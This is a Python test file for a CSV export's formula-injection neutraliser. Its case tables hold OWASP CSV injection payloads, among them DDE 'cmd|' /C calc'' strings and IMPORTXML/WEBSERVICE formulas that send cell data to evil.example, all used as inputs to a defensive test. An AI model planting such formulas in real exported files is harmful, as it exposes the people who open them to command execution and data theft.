"""CSV injection: exactly the cells a spreadsheet would run get a ``'``, harmless text is left
as written, and the fast events path writes the same bytes as the document path."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.core.export import csv_export
from annotator.core.export.spreadsheet import needs_neutralising
from annotator.store import operations as ops
from annotator.store.project import Project
from annotator.store.project_setup import create_project
from annotator.store.rows import parse_edtf_field

CALC = "cmd|' /C calc'!A0"

CASES = [
    # OWASP's CSV injection examples
    (f"={CALC}", True),
    (f"+{CALC}", True),
    (f"-{CALC}", True),
    (f"@SUM(1+9)*{CALC}", True),
    (f"-2+3+{CALC}", True),
    (f"-1+{CALC}", True),
    (f"=10+20+{CALC}", True),
    ('=HYPERLINK("http://evil.example/x","click")', True),
    ('=1+2";=1+2', True),
    ("=1+2'\" ;,=1+2", True),
    (f"\n-3+3+{CALC}", True),  # OWASP's %0A form, decoded
    ('=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")', True),
    ('=WEBSERVICE("http://evil.example/"&A1)', True),
    # plain triggers
    ("=1+1", True),
    ("@SUM(A1)", True),
    ("@", True),
    ("=", True),
    ("-A1", True),
    ("+SUM(A1:A9)", True),
    ("-2+3", True),
    ("+1,5", True),
    ("-5 (dead)", True),
    ("-5!", True),
    ("-5: dead", True),
    ("-5; dead", True),
    ("- 5", True),
    ("-.5", True),
    ("--5", True),
    ("+-5", True),
    # full-width forms are always triggers
    ("＝1+1", True),
    ("＠SUM(A1)", True),
    ("＋1", True),
    ("－1", True),
    ("－5 dead", True),
    # tab or CR first: always (OWASP)
    ("\t=1", True),
    ("\r=1", True),
    ("\tabc", True),
    ("\r", True),
    # a trigger after what a spreadsheet skips
    ("  =1", True),
    ("\n=1", True),
    ("\u00a0=1", True),
    ("\u200b=1", True),
    ("\u200c+A1", True),
    ("\u200d@x", True),
    ("\u2060=1", True),
    ("\ufeff=1", True),
    ("\u3000=1", True),
    ("\u2028=1", True),
    ("\u200e-A1", True),
    ("\x0b=1", True),
    (" \u00a0\u200b\ufeff ＝cmd", True),
    ("\n\n@cmd", True),
    # harmless: left as written
    ("-5", False),
    ("+5", False),
    ("-5 dead", False),
    ("+33 1 23 45", False),
    ("-2.5%", False),
    ("-1e5", False),
    ("-", False),
    ("+", False),
    ("---", False),
    ("- -", False),
    ("  -5 wounded", False),
    ("\n-5 dead", False),
    ("\u00a0-", False),
    ("a=b", False),
    ("5-3", False),
    ("Kovač 🚀", False),
    ("", False),
    ("'=1", False),
    (" ", False),
    ("\n", False),
    ("\u200b", False),
    ("(=1)", False),
    ("−5", False),
    ("-5 Kovač", False),
    ("+5٣", False),
    ("+٣", True),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_needs_neutralising(text: str, expected: bool) -> None:
    assert needs_neutralising(text) is expected
    assert csv_export.neutralise(text) == ("'" + text if expected else text)


def test_the_table_covers_the_cases_asked_for() -> None:
    assert len(CASES) >= 30
    assert sum(1 for _, e in CASES if e) > 20 and sum(1 for _, e in CASES if not e) > 20


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (3, "3"),
        (-3, "-3"),
        (2.5, "2.5"),
        (True, "true"),
        (False, "false"),
    ],
)
def test_non_text_cells(value: object, expected: str) -> None:
    assert csv_export.neutralise(value) == expected


# An oracle written independently of the rule: what follows the skipped characters.
SKIPPED = re.compile(r"[\s\u200b-\u200f\u2060-\u2064\ufeff\u00ad\u202a-\u202e\u2066-\u2069]*")
TRIGGER = re.compile(r"[=+\-@＝＋－＠]")
INERT_SIGNED = re.compile(r"[+-](?:[0-9][\w .%]*|[+\- ]*)")


def _dangerous(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    rest = cell[SKIPPED.match(cell).end() :]
    if not TRIGGER.match(rest):
        return False
    return not INERT_SIGNED.fullmatch(rest)


def _write_and_read(cells: list[str]) -> list[str]:
    buf = io.StringIO(newline="")
    csv_export.write_rows([dict(zip("abc", cells, strict=True))], list("abc"), buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert rows[0] == ["a", "b", "c"] and len(rows) == 2
    return rows[1]


TRICKY = st.sampled_from(
    list("=+-@＝＋－＠\t\r\n \u00a0\u200b\u200d\u2060\ufeff\u3000'\"(),;!|:.%5aA")
)
CELL = st.one_of(
    st.text(),
    st.lists(TRICKY, max_size=8).map("".join),
    st.tuples(st.lists(TRICKY, max_size=4).map("".join), st.text()).map("".join),
)


@settings(max_examples=400, deadline=None)
@given(st.lists(CELL, min_size=3, max_size=3))
def test_any_cell_round_trips_and_no_formula_gets_through(cells: list[str]) -> None:
    for text, cell in zip(cells, _write_and_read(cells), strict=True):
        added = needs_neutralising(text)
        assert cell == ("'" + text if added else text)  # the text itself is never altered
        assert not needs_neutralising(cell)
        assert not _dangerous(cell), repr(cell)
        if _dangerous(text):
            assert added, repr(text)


def test_the_oracle_agrees_with_the_table() -> None:
    # the property test leans on _dangerous: it must say the same on every known case
    assert [text for text, expected in CASES if _dangerous(text) is not expected] == []


HOSTILE = [
    "＝1+1",
    "\n=1+1",
    "\u00a0@SUM(A1)",
    "\u200b=cmd|' /C calc'!A0",
    "\ufeff+A1",
    "\u3000－1",
    "-5 dead",
    "+33 1 23 45",
    "-",
    "\t-5",
    "-2+3",
]


def test_fast_and_document_paths_write_the_same_bytes(tmp_path: Path) -> None:
    from annotator.store.chronology import build_document
    from annotator.store.csv_fast import write_events_csv

    path = tmp_path / "hostile.db"
    create_project(path, seed=False)
    with Project.open(path) as project:
        for i, text in enumerate(HOSTILE):
            cs, _ = ops.create_event(
                project,
                headline=text,
                description=text,
                location=text,
                type=text,
                tags=[text],
                date=parse_edtf_field(f"2025-03-{i + 1:02d}", "d"),
            )
            project.apply(cs)
    with Project.open(path, readonly=True) as project:
        fast, slow = io.StringIO(newline=""), io.StringIO(newline="")
        write_events_csv(project, fast)
        csv_export.write_csv(build_document(project), slow, what="events")
    assert fast.getvalue() == slow.getvalue()
    rows = list(csv.DictReader(io.StringIO(fast.getvalue(), newline="")))
    # (a headline is stored stripped: its leading blanks are gone before it reaches the CSV)
    assert [r["description"] for r in rows] == [
        "'" + t if needs_neutralising(t) else t for t in HOSTILE
    ]
    assert [r["headline"] for r in rows] == [csv_export.neutralise(t.strip()) for t in HOSTILE]
    by_text = {r["description"]: r for r in rows}
    assert by_text["-5 dead"]["location"] == "-5 dead"
    assert by_text["'＝1+1"]["type"] == "'＝1+1"
    assert by_text["'\n=1+1"]["tags"] == "'=1+1"  # tags are stored stripped too
